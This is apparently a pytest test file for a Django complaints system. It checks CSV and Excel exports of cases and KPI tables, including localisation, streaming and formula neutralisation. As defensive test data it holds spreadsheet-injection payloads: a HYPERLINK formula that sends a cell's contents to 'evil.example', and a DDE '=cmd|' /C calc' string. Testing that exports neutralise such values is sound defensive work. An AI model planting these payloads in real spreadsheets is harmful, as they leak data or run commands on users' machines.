"""Exports: every KPI table and any list of cases, as CSV and as Excel workbooks."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation
from django.utils.translation import gettext_lazy as _
from openpyxl import load_workbook

from complaints.models import Case, Step
from reporting.exports import (
    CSV_CHUNK_ROWS,
    case_headers,
    cases_csv,
    cases_xlsx,
    table_csv,
    tables_xlsx,
)
from reporting.spreadsheet import content_disposition, neutralised, sheet_name
from reporting.tables import Column, Row, Table
from tests.factories import CustomerFactory, receive_case, walk

pytestmark = pytest.mark.django_db

RECEIVED = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)  # 09:30 in Shanghai
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[list[str]]:
    text = body(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def workbook(response):
    return load_workbook(io.BytesIO(body(response)))


def today() -> str:
    return timezone.localdate(timezone=timezone.get_default_timezone()).isoformat()


@pytest.fixture
def shanghai(settings):
    settings.TIME_ZONE = "Asia/Shanghai"


@pytest.fixture
def closed_case(agent, handler, after_sales):
    """A valid case walked through every step: repaired, apologised for, rated 5."""
    customer = CustomerFactory(name="Wang Fang")
    case = receive_case(by=agent, customer=customer, received_at=RECEIVED)
    walk(case, to=Step.CLOSED, by=agent, department=after_sales, person=handler)
    case.refresh_from_db()
    return case


@pytest.fixture
def new_case(agent):
    return receive_case(
        by=agent,
        customer=CustomerFactory(name="Li Na"),
        channel="email",
        category="safety",
        urgency="red",
        product="Kettle K-1",
        received_at=datetime(2026, 3, 1, tzinfo=UTC),
    )


def local(value: datetime | None) -> str:
    if value is None:
        return ""
    return timezone.localtime(value, timezone.get_default_timezone()).strftime("%Y-%m-%d %H:%M")


# Cases as CSV ---------------------------------------------------------------------------------


def test_cases_csv_has_one_row_per_case_with_labels_not_codes(
    shanghai, closed_case, new_case, agent
):
    rows = csv_rows(cases_csv(Case.objects.all()))

    assert rows[0] == [
        "Reference",
        "Received (Asia/Shanghai)",
        "Channel",
        "Category",
        "Product or service",
        "Urgency",
        "Step",
        "Customer",
        "Owner",
        "Responsible department",
        "Escalation tier",
        "Next deadline (Asia/Shanghai)",
        "Closed (Asia/Shanghai)",
        "Validity",
        "Root-cause category",
        "Remedies",
        "Remedy value",
        "Rating (1 to 5)",
        "Times reopened",
    ]
    by_reference = {row[0]: row for row in rows[1:]}
    assert len(rows) == 3
    assert by_reference[closed_case.reference] == [
        closed_case.reference,
        "2026-03-02 09:30",
        "Phone",
        "Product quality",
        "Washing machine W-200",
        "Yellow — within 24 hours",
        "Closed",
        "Wang Fang",
        str(agent),
        "After-sales",
        "Handler",
        local(closed_case.due_at),
        local(closed_case.closed_at),
        "Valid",
        "Materials",
        "Repair, Apology",
        "120.00",
        "5",
        "0",
    ]
    assert by_reference[new_case.reference][1:8] == [
        "2026-03-01 08:00",
        "Email",
        "Safety",
        "Kettle K-1",
        "Red — handle immediately",
        "Receive",
        "Li Na",
    ]
    assert by_reference[new_case.reference][9] == ""  # no responsible department yet
    assert by_reference[new_case.reference][13:18] == ["", "", "", "", ""]


def test_cases_csv_keeps_the_list_order(closed_case, new_case):
    rows = csv_rows(cases_csv(Case.objects.order_by("received_at")))

    assert [row[0] for row in rows[1:]] == [new_case.reference, closed_case.reference]


def test_csv_starts_with_a_byte_order_mark_and_ends_rows_with_crlf(new_case):
    content = body(cases_csv(Case.objects.all()))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 2
    assert content.replace(b"\r\n", b"").count(b"\n") == 0


def test_cases_csv_is_an_attachment_named_in_ascii_and_in_the_language(new_case):
    with translation.override("zh-hans"):
        response = cases_csv(Case.objects.all())

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="cases-{today()}.csv"; '
        f"filename*=UTF-8''%E6%A1%88%E4%BB%B6%20{today()}.csv"
    )


def test_cases_csv_neutralises_formulas_in_text_but_not_numbers(agent, handler, after_sales):
    case = receive_case(by=agent, customer=CustomerFactory(name=HYPERLINK), product="+1")
    walk(case, to=Step.CLOSED, by=agent, department=after_sales, person=handler)
    receive_case(by=agent, customer=CustomerFactory(name="@SUM(A1:A9)"), product="-2")
    receive_case(by=agent, customer=CustomerFactory(name="\tTab"), product="=1+2")

    rows = csv_rows(cases_csv(Case.objects.order_by("pk")))

    assert [(row[7], row[4]) for row in rows[1:]] == [
        ("'" + HYPERLINK, "'+1"),
        ("'@SUM(A1:A9)", "'-2"),
        ("'\tTab", "'=1+2"),
    ]
    assert rows[1][16] == "120.00"
    assert rows[1][17] == "5"


def test_an_empty_list_exports_its_header_only(closed_case):
    assert csv_rows(cases_csv(Case.objects.none())) == [case_headers()]
    sheet = workbook(cases_xlsx(Case.objects.none())).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [case_headers()]


def test_cases_csv_is_streamed_in_chunks(agent):
    customer = CustomerFactory()
    Case.objects.bulk_create(
        Case(
            reference=f"C202601-{n:05d}",
            customer=customer,
            receiver=agent,
            owner=agent,
            channel="phone",
            category="other",
            description="Bulk.",
            desired_outcome="Nothing.",
            received_at=RECEIVED,
        )
        for n in range(2000)
    )

    response = cases_csv(Case.objects.all())

    assert isinstance(response, StreamingHttpResponse)
    chunks = list(response.streaming_content)
    assert len(chunks) == 1 + 2000 // CSV_CHUNK_ROWS  # the header, then the rows in chunks
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert len(rows) == 2001
    assert {row[0] for row in rows[1:]} == {f"C202601-{n:05d}" for n in range(2000)}

    book = load_workbook(io.BytesIO(body(cases_xlsx(Case.objects.all()))), read_only=True)
    assert sum(1 for _ in book.active.iter_rows(values_only=True)) == 2001


def test_case_exports_make_the_same_queries_for_3_cases_as_for_30(agent, handler, after_sales):
    def exported_with_queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as for_csv:
            rows = csv_rows(cases_csv(Case.objects.all()))
        with CaptureQueriesContext(connection) as for_xlsx:
            sheet = workbook(cases_xlsx(Case.objects.all())).active
        assert len(rows) == sheet.max_row == Case.objects.count() + 1
        return len(for_csv), len(for_xlsx)

    def received(number: int) -> None:
        for n in range(number):
            case = receive_case(by=agent)
            if n % 3 == 0:  # some with a responsible department, remedies and a rating
                walk(case, to=Step.CLOSED, by=agent, department=after_sales, person=handler)

    received(3)
    for_3 = exported_with_queries()
    received(27)
    for_30 = exported_with_queries()

    assert for_3 == for_30 == (1, 1)


def test_case_exports_replace_the_lists_own_joins_and_prefetches(closed_case):
    cases = Case.objects.select_related("receiver").prefetch_related("events")

    with CaptureQueriesContext(connection) as captured:
        rows = csv_rows(cases_csv(cases))
        sheet = workbook(cases_xlsx(cases)).active

    assert len(captured) == 2
    assert rows[1][0] == sheet["A2"].value == closed_case.reference


def test_cases_are_written_in_the_language_active_when_the_export_was_asked_for(closed_case):
    with translation.override("zh-hans"):
        response = cases_csv(Case.objects.all())
    # The server may iterate a streamed response after the request's language is gone.
    with translation.override("en"):
        header, row = csv_rows(response)

    assert header[0] == "编号"
    assert header[1] == "受理时间 (UTC)"
    assert header[6] == "步骤"
    assert row[2:4] == ["电话", "产品质量"]
    assert row[6] == "已结案"
    assert row[15] == "维修, 道歉"


# Cases as Excel -------------------------------------------------------------------------------


def test_cases_xlsx_has_real_local_times_numbers_and_a_frozen_bold_header(
    shanghai, closed_case, new_case
):
    response = cases_xlsx(Case.objects.order_by("received_at"))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        f"attachment; filename=\"cases-{today()}.xlsx\"; filename*=UTF-8''Cases%20{today()}.xlsx"
    )
    book = workbook(response)
    assert book.sheetnames == ["Cases"]
    sheet = book["Cases"]
    assert [c.value for c in sheet[1]] == case_headers()
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:S3"
    closed = [c for c in sheet[3]]
    assert closed[0].value == closed_case.reference
    assert closed[1].value == datetime(2026, 3, 2, 9, 30)
    assert closed[1].number_format == "yyyy-mm-dd hh:mm"
    assert closed[6].value == "Closed"
    assert closed[15].value == "Repair, Apology"
    assert closed[16].value == Decimal("120.00")
    assert closed[16].number_format == "#,##0.00"
    assert closed[17].value == 5
    assert closed[18].value == 0
    assert [c.value for c in sheet[2]][13:18] == [None, None, None, None, None]


def test_cases_xlsx_neutralises_formulas(agent):
    receive_case(by=agent, customer=CustomerFactory(name=HYPERLINK), product="+1")

    row = workbook(cases_xlsx(Case.objects.all())).active[2]

    assert (row[7].value, row[7].data_type) == ("'" + HYPERLINK, "s")
    assert (row[4].value, row[4].data_type) == ("'+1", "s")


def test_cases_xlsx_in_chinese(closed_case):
    with translation.override("zh-hans"):
        book = workbook(cases_xlsx(Case.objects.all()))

    assert book.sheetnames == ["案件"]
    assert book.active["G1"].value == "步骤"
    assert book.active["G2"].value == "已结案"


# KPI tables -----------------------------------------------------------------------------------


def kpi_table(**overrides) -> Table:
    return Table(
        **{
            "key": "by_category",
            "title": _("Category"),
            "columns": [
                Column("category", _("Category")),
                Column("cases", "Cases", "count"),
                Column("in_time", "Closed in time", "percent"),
                Column("hours", "Hours to close", "hours"),
                Column("value", "Remedy value", "money"),
            ],
            "rows": [
                Row(
                    {
                        "category": "Product quality",
                        "cases": 12,
                        "in_time": 0.125,
                        "hours": 30.26,
                        "value": Decimal("1234.5"),
                    },
                    cases={"category": "product_quality"},
                ),
                Row(
                    {
                        "category": "=1+1",
                        "cases": 0,
                        "in_time": float("nan"),
                        "hours": -1.5,
                        "value": 0,
                    }
                ),
            ],
            **overrides,
        }
    )


def test_table_csv_writes_the_labels_and_plain_numbers():
    response = table_csv(kpi_table())

    assert response["Content-Disposition"] == (
        f'attachment; filename="category-{today()}.csv"'
        f"; filename*=UTF-8''Category%20{today()}.csv"
    )
    assert csv_rows(response) == [
        ["Category", "Cases", "Closed in time", "Hours to close", "Remedy value"],
        ["Product quality", "12", "0.125", "30.26", "1234.50"],
        ["'=1+1", "0", "", "-1.5", "0.00"],
    ]


def test_table_csv_in_chinese_is_named_by_its_key_in_ascii():
    with translation.override("zh-hans"):
        response = table_csv(kpi_table())

    assert response["Content-Disposition"].startswith(
        f"attachment; filename=\"by_category-{today()}.csv\"; filename*=UTF-8''%E7%B1%BB"
    )
    assert csv_rows(response)[0][0] == "类别"


def test_tables_xlsx_has_a_report_sheet_then_one_sheet_per_table(shanghai):
    long_title = "Escalations by tier / reason: first half of the year [draft]"
    tables = [
        kpi_table(),
        kpi_table(key="a", title=long_title, note="=cmd|' /C calc'!A0"),
        kpi_table(key="b", title=long_title),
    ]

    response = tables_xlsx(
        tables,
        title="Complaints report",
        filters=[("Received between", "2026-01-01 to 2026-06-30"), ("Product", "=evil()")],
    )

    assert response["Content-Disposition"] == (
        f'attachment; filename="complaints-report-{today()}.xlsx"'
        f"; filename*=UTF-8''Complaints%20report%20{today()}.xlsx"
    )
    book = workbook(response)
    assert book.sheetnames == [
        "Report",
        "Category",
        "Escalations by tier reason firs",
        "Escalations by tier reason (2)",
    ]
    report = [[c.value for c in row] for row in book["Report"].iter_rows()]
    assert report[0] == ["Complaints report", None, None]
    assert report[2][0] == "Made on (Asia/Shanghai)"
    made_on = timezone.localtime(timezone.now()).replace(tzinfo=None)
    assert abs((report[2][1] - made_on).total_seconds()) < 60
    assert report[4][0] == "Filters"
    assert report[5][:2] == ["Received between", "2026-01-01 to 2026-06-30"]
    assert report[6][:2] == ["Product", "'=evil()"]
    assert report[8] == ["Sheet", "Table", "Note"]
    assert report[10] == ["Escalations by tier reason firs", long_title, "'=cmd|' /C calc'!A0"]


def test_tables_xlsx_writes_numbers_with_their_kinds_formats():
    sheet = workbook(tables_xlsx([kpi_table()], title="KPIs", filters=[]))["Category"]

    assert [c.value for c in sheet[1]] == [
        "Category",
        "Cases",
        "Closed in time",
        "Hours to close",
        "Remedy value",
    ]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    first, second = sheet[2], sheet[3]
    assert [c.value for c in first] == ["Product quality", 12, 0.125, 30.26, Decimal("1234.5")]
    assert [c.number_format for c in first[1:]] == ["0", "0.0%", "0.0", "#,##0.00"]
    assert (second[0].value, second[0].data_type) == ("'=1+1", "s")
    assert second[2].value is None
    assert second[3].value == -1.5
    assert 10 <= sheet.column_dimensions["A"].width <= 60


def test_tables_xlsx_in_chinese():
    with translation.override("zh-hans"):
        response = tables_xlsx([kpi_table()], title="投诉报告", filters=[])

    assert response["Content-Disposition"].startswith(
        f"attachment; filename=\"heed-report-{today()}.xlsx\"; filename*=UTF-8''%E6%8A%95"
    )
    assert workbook(response).sheetnames[1] == "类别"


# Names and cells ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Cases: by [category]?", "Cases by category"),
        ("'quoted'", "quoted"),
        ("a/b\\c*d", "a b c d"),
        ("x" * 40, "x" * 31),
        ("", "Sheet"),
        ("History", "History (2)"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(title, expected):
    assert sheet_name(title, set()) == expected


def test_sheet_names_are_unique_whatever_the_case():
    taken: set[str] = set()

    names = [sheet_name(title, taken) for title in ["Tier", "tier", "TIER", "y" * 40, "y" * 40]]

    assert names == ["Tier", "tier (2)", "TIER (3)", "y" * 31, "y" * 27 + " (2)"]


def test_an_ascii_name_needs_no_rfc_5987_name():
    assert content_disposition("cases", extension="csv", fallback="x") == (
        'attachment; filename="cases.csv"'
    )


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx"])
def test_text_that_could_start_a_formula_is_quoted(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["1", "a=b", "'=1", "", "Li Na"])
def test_other_text_is_left_alone(text):
    assert neutralised(text) == text
